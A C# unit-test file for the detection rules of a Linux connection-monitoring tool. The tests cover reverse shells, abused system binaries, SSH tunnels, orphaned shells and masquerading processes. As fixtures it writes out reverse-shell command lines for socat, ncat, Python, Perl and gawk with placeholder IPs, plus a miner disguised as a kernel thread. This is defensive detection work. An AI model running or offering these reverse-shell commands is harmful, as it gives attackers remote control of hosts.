using N3ttrace.Connections;
using N3ttrace.Inference;
using N3ttrace.Inference.Rules;
using N3ttrace.Lineage;

namespace N3ttrace.Core.Tests.Inference;

public class RuleTests
{
    private static readonly ProcessNode Launcher = Make.Node(Make.Ctx("/usr/bin/dotnet", ["dotnet", "test"]));

    [Fact]
    public void Stdio_socket_fires_for_a_shell_with_socket_stdin_and_stdout_only()
    {
        var rule = new StdioSocketRule();
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/bash", ["bash", "-i"], stdio: 7), Launcher)))));
        // A service's stdout/stderr to journald are sockets too, but not stdin: no reverse shell.
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/bash", ["bash"], stdio: 6), Launcher)))));
        // curl with socket stdio (a CGI child) is not a shell.
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"], stdio: 7), Launcher)))));
        // Probed later in /proc: python after dup2.
        var s = Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/python3.11", ["python3"]), Launcher)));
        s.ProbedStdio = 3;
        Assert.Contains("python3.11", rule.Evaluate(s)!.Text, StringComparison.Ordinal);
    }

    [Fact]
    public void Shell_connect_fires_for_shells_not_for_busybox_applets()
    {
        var rule = new ShellConnectRule();
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Shell(parent: Launcher)))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/bin/busybox", ["nc", "1.2.3.4", "80"]), Launcher)))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), Launcher)))));
    }

    [Theory]
    [InlineData("/usr/bin/socat", new[] { "socat", "TCP:1.2.3.4:4444", "EXEC:/bin/sh" }, true)]
    [InlineData("/usr/bin/socat", new[] { "socat", "tcp:1.2.3.4:4444", "system:bash -li,pty" }, true)]
    [InlineData("/usr/bin/socat", new[] { "socat", "TCP-LISTEN:80", "TCP:10.0.0.1:80" }, false)]
    [InlineData("/usr/bin/ncat", new[] { "ncat", "1.2.3.4", "4444", "-e", "/bin/sh" }, true)]
    [InlineData("/usr/bin/ncat", new[] { "ncat", "1.2.3.4", "4444" }, false)]
    [InlineData("/usr/bin/python3.11", new[] { "python3", "-c", "import socket,subprocess;s=socket.socket();subprocess.call(['/bin/sh','-i'])" }, true)]
    [InlineData("/usr/bin/python3.11", new[] { "python3", "-c", "import socket;socket.create_connection(('h',80))" }, false)]
    [InlineData("/usr/bin/python3.11", new[] { "python3", "/usr/bin/some-tool", "--exec", "/bin/sh" }, false)]
    [InlineData("/usr/bin/perl", new[] { "perl", "-e", "use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec(\"/bin/sh -i\")" }, true)]
    [InlineData("/usr/bin/gawk", new[] { "gawk", "BEGIN{s=\"/inet/tcp/0/1.2.3.4/80\"}" }, false)]
    [InlineData("/usr/bin/gawk", new[] { "gawk", "-e", "BEGIN{s=\"/inet/tcp/0/1.2.3.4/80\"}" }, true)]
    [InlineData("/usr/bin/curl", new[] { "curl", "-e", "/bin/sh" }, false)]
    public void Lolbin_shell_is_judged_by_its_arguments_not_its_name(string exe, string[] argv, bool fires) =>
        Assert.Equal(fires, new LolbinShellRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx(exe, argv), Launcher)))) is not null);

    [Theory]
    [InlineData(new[] { "ssh", "-R", "8080:localhost:80", "host" }, true)]
    [InlineData(new[] { "ssh", "-fND", "1080", "host" }, true)]
    [InlineData(new[] { "ssh", "-oLogLevel=ERROR", "-p2222", "host", "ls" }, false)]
    [InlineData(new[] { "ssh", "host", "-L" }, true)]
    public void Ssh_tunnel_flags(string[] argv, bool fires) =>
        Assert.Equal(fires, new SshTunnelRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/ssh", argv), Launcher)))) is not null);

    [Fact]
    public void Lolbin_context_needs_a_shell_parent_without_tty_outside_services_and_sessions()
    {
        var rule = new LolbinContextRule();
        var curl = Make.Ctx("/usr/bin/curl", ["curl", "http://x"]);
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(curl, Make.Shell(parent: Launcher))))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(curl with { Tty = "pts/1" }, Make.Shell("pts/1", Launcher))))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(curl with { Cgroup = "/system.slice/x.service" }, Make.Shell(parent: Launcher))))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(curl, Launcher)))));
    }

    [Fact]
    public void Orphan_shell_needs_its_launcher_gone_before_the_connection()
    {
        var rule = new OrphanShellRule();
        var goneLauncher = Make.Shell(parent: Launcher, exited: 500_000_000);
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Shell(parent: goneLauncher)))));
        // Its child curl counts too: the shell is the parent.
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), Make.Shell(parent: goneLauncher))))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Shell(parent: Make.Shell(parent: Launcher))))));
        var exitedLater = Make.Shell(parent: Launcher, exited: 5_000_000_000);
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Shell(parent: exitedLater)))));
    }

    [Fact]
    public void Server_child_finds_a_server_ancestor_by_name_or_command_line()
    {
        var rule = new ServerAncestryRule();
        var nginx = Make.Node(Make.Ctx("/usr/sbin/nginx", ["nginx: worker process"]));
        var sh = Make.Node(Make.Ctx("/usr/bin/dash", ["sh", "-c", "curl x"]), nginx);
        Assert.Contains("nginx", rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), sh))))!.Text, StringComparison.Ordinal);
        var web = Make.Node(Make.Ctx("/usr/bin/python3.11", ["python3", "-m", "http.server", "--cgi"]));
        Assert.NotNull(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/dash", ["sh"]), web)))));
        // A server's own non-tool child (php-fpm worker running php) is not flagged; nor is a plain python parent.
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/lib/apt/methods/http", ["http"]), nginx)))));
        Assert.Null(rule.Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), Make.Node(Make.Ctx("/usr/bin/python3.11", ["python3", "build.py"])))))));
    }

    [Fact]
    public void Temp_deleted_and_masquerading_executables()
    {
        Assert.NotNull(new TempExecutableRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/dev/shm/x", ["x"]), Launcher)))));
        Assert.Null(new TempExecutableRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/tmpwatch", ["tmpwatch"]), Launcher)))));
        Assert.NotNull(new DeletedExecutableRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/opt/a", ["a"]) with { ExeDeleted = true }, Launcher)))));
        var renamed = Make.Ctx("/tmp/.x/miner", ["[kworker/0:1]"]) with { Comm = "kworker/0:1" };
        var hit = new MasqueradeRule().Evaluate(Make.Subject(Make.Conn(Make.Node(renamed, Launcher))));
        Assert.NotNull(hit);
        Assert.Null(new MasqueradeRule().Evaluate(Make.Subject(Make.Conn(Make.Node(Make.Ctx("/usr/bin/python3.11", ["python3"]), Launcher)))));
    }

    [Fact]
    public void Longevity_uses_the_host_distribution_once_it_has_enough_samples()
    {
        var config = RulesConfig.Default with { LongevityMinSamples = 100, LongevityFloorSeconds = 60, LongevityFixedSeconds = 3600 };
        var d = new LifetimeDistribution();
        var c = Make.Conn(Make.Node(Make.Ctx("/usr/bin/curl", ["curl"]), Launcher), birthNs: 0);
        var rule = new LongevityRule();
        var at100s = Make.Subject(c, config, now: 100_000_000_000);
        at100s.Longevity = LongevityThreshold.From(d, config);
        Assert.Null(rule.Evaluate(at100s)); // 100 s < fixed 3600 s while there are no samples
        for (var i = 0; i < 200; i++)
        {
            d.Add(0.5 + i * 0.01); // this host's connections live about a second
        }
        at100s.Longevity = LongevityThreshold.From(d, config);
        Assert.True(at100s.Longevity.FromHost);
        Assert.Contains("p99 of 200", rule.Evaluate(at100s)!.Text, StringComparison.Ordinal); // 100 s > max(floor 60 s, p99 ~2.5 s)
        var at30s = Make.Subject(c, config, now: 30_000_000_000);
        at30s.Longevity = LongevityThreshold.From(d, config);
        Assert.Null(rule.Evaluate(at30s)); // below the floor
    }

    [Fact]
    public void Verdict_levels_follow_the_thresholds_and_reasons_round_trip()
    {
        var v = VerdictBuilder.Build([new RuleHit("a", 20, "x"), new RuleHit("b", 50, "y")], new PurposeGuess("unknown", 0, []), RulesConfig.Default);
        Assert.Equal(RiskLevel.Threat, v.Level);
        Assert.Equal(70, v.Score);
        var parsed = RecordedReason.ParseAll(string.Join("; ", v.Reasons));
        Assert.Equal(["b", "a", "purpose"], parsed.Select(r => r.Rule));
        Assert.Equal(50, parsed[0].Points);
        Assert.Equal("y", parsed[0].Text);
        Assert.Equal(RiskLevel.Anomaly, VerdictBuilder.Build([new RuleHit("a", 30, "x")], new PurposeGuess("unknown", 0, []), RulesConfig.Default).Level);
        Assert.Equal(100, VerdictBuilder.Build([new RuleHit("a", 80, "x"), new RuleHit("b", 80, "y")], new PurposeGuess("unknown", 0, []), RulesConfig.Default).Score);
    }
}
